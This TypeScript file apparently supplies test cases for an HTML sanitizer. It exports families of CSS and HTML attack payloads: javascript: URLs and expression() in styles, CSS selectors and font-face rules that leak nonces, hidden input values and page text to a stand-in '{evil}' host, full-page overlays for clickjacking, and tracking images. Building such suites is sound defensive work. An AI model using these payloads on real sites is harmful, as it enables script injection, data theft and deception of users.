import { family, type Attack } from './attack.js';

const attributes = 'abcdef0123456789'
  .split('')
  .map((first) => `script[nonce^="${first}"],input[value^="${first}"]{background:url({seen}${first})}`)
  .join('');

const codepoints = 'abcde'
  .split('')
  .map(
    (letter) =>
      `@font-face{font-family:spy;src:url({seen}${letter});unicode-range:U+00${letter.charCodeAt(0).toString(16)}}`,
  )
  .join('');

/** Styles that mean to run something, to read something, or to cover the page. */
export const looks: Attack[] = [
  ...family('style', {
    'import of a script address': '<style>@import "javascript:{js}";</style><p>x',
    'import from elsewhere': '<style>@import "{evil}/seen.css";</style><p>x',
    'import of data': '<style>@import "data:text/css,body{background:url(javascript:{js})}";</style><p>x',
    'reads attributes': `<style>${attributes}</style><input value="secret" type="hidden"><p>x`,
    'reads text': `<style>${codepoints} p{font-family:spy}</style><p>abcde`,
    'script address': '<style>body{background:url(javascript:{js})}</style><p>x',
    'script address in an attribute': '<p style="background:url(javascript:{js})">x',
    'script address in a list': '<style>li{list-style-image:url(javascript:{js})}</style><ul><li>x</ul>',
    'script address in content': '<style>p::before{content:url(javascript:{js})}</style><p>x',
    expression: '<p style="width:expression({js})">x',
    'expression in pieces': '<p style="xss:expr/*x*/ession({js})">x',
    behavior: '<p style="behavior:url({url})">x',
    binding: '<p style="-moz-binding:url({url}#x)">x',
    'link of old Opera': '<p style="-o-link:javascript:{js};-o-link-source:current">x',
    'escaped letters': '<p style="background:\\75rl(java\\73 cript:{js})">x',
    paint: '<style>@property --x{syntax:"*";inherits:false} p{background:paint(x)}</style><p>x',
    'closed in itself': '<style>p{}</style><img src=x: onerror={js}><style></style><p>x',
    'opened rules in an attribute': '<p style="} html{display:none} x{">x',
    'opened a tag in an attribute': '<p style="color:red</style><script>{js}</script>">x',
    'of svg': '<svg><style>@import "{url}";</style><rect style="fill:url(javascript:{js})"></rect></svg><p>x',
    'of a document': '<style>@document url("{url}"){p{color:red}}</style><p>x',
    'of a namespace': '<style>@namespace url("{url}");</style><p>x',
    'attribute of old':
      '<body background="javascript:{js}"><table background="javascript:{js}"><td background="javascript:{js}">x',
  }),
  ...family('cover', {
    'fixed over everything': '<a href="{url}" style="position:fixed;inset:0;z-index:2147483647">x</a>',
    'larger than any window': '<div style="width:99999999px;height:99999999px;background:red">x</div>',
    'growing with itself': '<style>html,body{height:200vh;min-height:200vh}</style><p>x',
    'of negative size': '<body style="margin:-9999px;height:-1px">x',
    'of no size': '<body style="display:none">x',
    'html of no size': '<html style="display:none;position:absolute"><body>x',
    'an open dialog': '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>',
    'a popover': '<button popovertarget="p">x</button><div id="p" popover="manual">y</div>',
    'never still':
      '<style>@keyframes m{to{height:9000px}} body{animation:m 10ms infinite alternate}</style><p>x',
    'asks for the focus': '<input autofocus><textarea autofocus></textarea><button autofocus>x</button>',
    'asks for keys': '<button accesskey="c">x</button><a href="javascript:{js}" accesskey="x">y</a>',
    'a moving text':
      '<marquee onstart={js} onbounce={js} onfinish={js} loop="1" scrollamount="999">x</marquee>',
    blinks: '<blink>x</blink><style>@keyframes b{50%{opacity:0}} *{animation:b 1ms infinite}</style>',
    'is editable': '<body contenteditable onbeforeinput={js}>x',
    'right to left': '<bdo dir="rtl"><h1>x\u202egnp.exe</h1></bdo>',
  }),
  ...family('spy', {
    'picture with the whole address': '<img src="{evil}/seen" referrerpolicy="unsafe-url">',
    'pictures to choose from':
      '<img srcset="{evil}/seen 1x" referrerpolicy="unsafe-url"><picture><source srcset="{evil}/seen"><img src="{evil}/seen" referrerpolicy="no-referrer-when-downgrade"></picture>',
    'video with a picture':
      '<video poster="{evil}/seen" src="{evil}/seen" referrerpolicy="unsafe-url"></video>',
    'picture in svg': '<svg><image href="{evil}/seen" referrerpolicy="unsafe-url"></image></svg>',
    'picture that shares cookies': '<img crossorigin="use-credentials" src="{evil}/seen">',
    'style sheet with the whole address':
      '<link rel="stylesheet" href="{evil}/seen" referrerpolicy="unsafe-url"><p>x',
    'picture that may be counted': '<img attributionsrc="{evil}/pwned" src="{evil}/seen">',
    'track of a video': '<video><track default src="{url}"></video>',
    'picture of a script address':
      '<img src="javascript:{js}"><img dynsrc="javascript:{js}" lowsrc="javascript:{js}">',
    'video of a script address':
      '<video src="javascript:{js}" poster="javascript:{js}"></video><audio src="javascript:{js}"></audio>',
    'long description':
      '<img longdesc="javascript:{js}" src="{seen}"><blockquote cite="javascript:{js}">x</blockquote>',
    'left-over text': `<img src='{evil}/seen?`,
  }),
];
